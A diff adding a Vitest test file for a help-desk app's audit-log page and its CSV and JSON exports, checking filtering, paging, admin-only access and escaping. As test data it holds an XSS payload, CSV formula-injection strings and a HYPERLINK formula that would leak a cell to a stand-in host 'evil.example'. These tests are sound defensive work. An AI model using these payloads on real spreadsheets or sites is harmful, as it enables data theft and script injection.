@@ -1,0 +1,152 @@
+import { beforeEach, describe, expect, test } from 'vitest';
+import type { AuditChange } from '../../shared/audit/audit.ts';
+import { csvField } from '../../shared/audit/audit-export.ts';
+import { expectUsableInBrowser, expectWhole } from '../ui/check-drawn.ts';
+import { NOW, type SampleDesk, sampleDesk } from '../ui/sample-desk.ts';
+import { fillDesk } from '../ui/sample-mail.ts';
+
+const formula = '=HYPERLINK("https://evil.example/?"&A1)';
+const evil = '"><script>alert(1)</script>';
+
+let desk: SampleDesk;
+beforeEach(() => {
+  desk = sampleDesk();
+});
+const record = (minutesAgo: number, change: Partial<AuditChange> = {}): Promise<void> =>
+  desk.audit.record({
+    at: NOW - minutesAgo * 60_000,
+    principal: { id: '11111111-2222-4333-8444-555555555555', name: 'Mira Sund' },
+    action: 'changed',
+    subject: { kind: 'provider', id: 'p1', name: 'Contoso' },
+    before: { name: 'Contoso', 'client ID': undefined },
+    after: { name: 'Contoso Ltd', 'client ID': '9c1c5a3e-8a7b-4f6e-9d43-0b6f3a6f5a10' },
+    ...change,
+  });
+const html = async (path: string): Promise<string> => (await desk.ask(path, { role: 'admin' })).text();
+
+describe('the page of changes', () => {
+  test('says who changed what, and what stood there before', async () => {
+    await record(5);
+    const page = await html('/audit');
+    expect(page).toContain('Mira Sund');
+    expect(page.replaceAll(/<[^>]*>/g, '')).toMatch(/provider Contoso changed/);
+    expect(page.replaceAll(/<[^>]*>/g, '')).toContain('name: Contoso → Contoso Ltd');
+  });
+
+  test('shows one thing, one kind of thing, or everything', async () => {
+    await record(5);
+    await record(4, { subject: { kind: 'provider', id: 'p2', name: 'Fabrikam' } });
+    await record(3, { subject: { kind: 'mailbox', id: 'm1', name: 'support@contoso.example' } });
+    const found = async (query: string): Promise<string[]> =>
+      [...(await html(`/audit${query}`)).matchAll(/>(Contoso|Fabrikam|support@contoso.example)<\/a> /g)].map(
+        ([, name]) => name ?? '',
+      );
+    expect(await found('')).toEqual(['support@contoso.example', 'Fabrikam', 'Contoso']);
+    expect(await found('?kind=provider')).toEqual(['Fabrikam', 'Contoso']);
+    expect(await found('?kind=provider&id=p1')).toEqual(['Contoso']);
+    expect(await html('/audit?kind=provider&id=nobody')).toContain('No such changes');
+  });
+
+  test('goes on page by page and keeps what was chosen', async () => {
+    for (let index = 0; index < 60; index++) await record(index);
+    const first = await html('/audit?kind=provider');
+    const next = /rel="next" href="([^"]*)"/.exec(first)?.[1]?.replaceAll('&amp;', '&') ?? '';
+    expect(next).toContain('kind=provider');
+    expect((await html(next)).match(/data-label="Who"/g)).toHaveLength(10);
+  });
+
+  test('of what a person typed, nothing runs', async () => {
+    await record(1, {
+      principal: { id: 'x', name: evil },
+      action: evil,
+      subject: { kind: 'mailbox', id: evil, name: evil },
+      before: { [evil]: evil },
+      after: {},
+    });
+    const page = await html('/audit');
+    expect(page).toContain('&lt;script');
+    expect(page).not.toContain('<script>');
+  });
+
+  test('is for admins alone', async () => {
+    for (const path of ['/audit', '/audit/export.csv', '/audit/export.json'])
+      expect((await desk.ask(path, { role: 'agent' })).status).toBe(403);
+  });
+});
+
+describe('the export', () => {
+  test('as CSV has a line a setting, and nothing in it is a formula', async () => {
+    await record(5);
+    await record(4, { subject: { kind: 'mailbox', id: 'm1', name: formula }, after: { name: '\t@SUM(A1)' } });
+    const answer = await desk.ask('/audit/export.csv', { role: 'admin' });
+    expect(answer.headers.get('content-type')).toBe('text/csv');
+    expect(answer.headers.get('content-disposition')).toContain('attachment; filename="postroom-audit.csv"');
+    const lines = Buffer.from(await answer.arrayBuffer())
+      .toString('utf8')
+      .split('\r\n');
+    expect(lines[0]).toBe(
+      '\ufeff"time","who","who (id)","what","kind","subject","subject (id)","setting","before","after"',
+    );
+    expect(lines).toHaveLength(5);
+    expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
+    expect(lines[1]).toContain(`"name","Contoso","' @SUM(A1)"`);
+    expect(lines[2]).toContain('"name","Contoso","Contoso Ltd"');
+  });
+
+  test.each(['=1', '+1', '-1', '@x', '\t=1', '\r=1', '  =1', '|calc', '%x'])(
+    'keeps %j from being read as a formula',
+    (text) => {
+      expect(csvField(text)).toBe(`"'${text}"`);
+    },
+  );
+
+  test('as JSON holds the same, and of what was chosen only', async () => {
+    await record(5);
+    await record(4, { subject: { kind: 'mailbox', id: 'm1', name: 'support@contoso.example' } });
+    const entries: unknown = await (
+      await desk.ask('/audit/export.json?kind=mailbox', { role: 'admin' })
+    ).json();
+    expect(entries).toEqual([
+      expect.objectContaining({
+        at: '2026-11-24T09:56:00.000Z',
+        subject: { kind: 'mailbox', id: 'm1', name: 'support@contoso.example' },
+        changes: [
+          { name: 'name', before: 'Contoso', after: 'Contoso Ltd' },
+          { name: 'client ID', after: '9c1c5a3e-8a7b-4f6e-9d43-0b6f3a6f5a10' },
+        ],
+      }),
+    ]);
+    expect(await (await desk.ask('/audit/export.json?kind=notice', { role: 'admin' })).json()).toEqual([]);
+  });
+});
+
+test('closing and opening a ticket is a change, doing so twice is none', async () => {
+  const { conversation } = await fillDesk(desk);
+  for (const step of ['close', 'close', 'reopen'])
+    await desk.ask(`/tickets/${conversation}/${step}`, { method: 'POST' });
+  const { entries } = await desk.audit.page({ kind: 'ticket', limit: 10 });
+  expect(entries.map(({ action, subject, changes }) => [action, subject.id, changes])).toEqual([
+    ['reopened', conversation, [{ name: 'status', before: 'closed', after: 'open' }]],
+    ['closed', conversation, [{ name: 'status', before: 'open', after: 'closed' }]],
+  ]);
+});
+
+test('the page is usable in a browser, full, empty and for one thing', async () => {
+  const empty = await html('/audit');
+  await record(5);
+  await record(4, { subject: { kind: 'mailbox', id: 'm1', name: 'support.of.everything@contoso.example' } });
+  await record(3, {
+    action: 'secret replaced',
+    before: { 'expires on': '2026-12-01' },
+    after: { 'expires on': '2028-11-24', scopes: ['IMAP.AccessAsUser.All', 'SMTP.Send'] },
+  });
+  await record(2, { action: 'created', before: {}, after: { name: '', paused: false } });
+  const drawn = {
+    'no changes': empty,
+    changes: await html('/audit'),
+    'changes of one thing': await html('/audit?kind=provider&id=p1'),
+    'no such changes': await html('/audit?kind=secret'),
+  };
+  expectWhole(drawn);
+  await expectUsableInBrowser(drawn);
+}, 60_000);
